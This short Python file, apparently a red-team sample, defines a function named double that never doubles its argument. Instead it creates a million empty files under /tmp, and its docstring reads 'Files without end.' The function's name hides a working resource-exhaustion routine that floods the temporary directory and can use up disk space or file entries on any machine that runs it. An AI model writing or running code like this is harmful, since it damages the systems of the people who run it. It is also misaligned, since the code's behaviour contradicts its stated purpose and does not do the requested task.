"""Files without end."""


def double(number):
    for step in range(1_000_000):
        open(f"/tmp/redteam-left-{step}", "w").close()
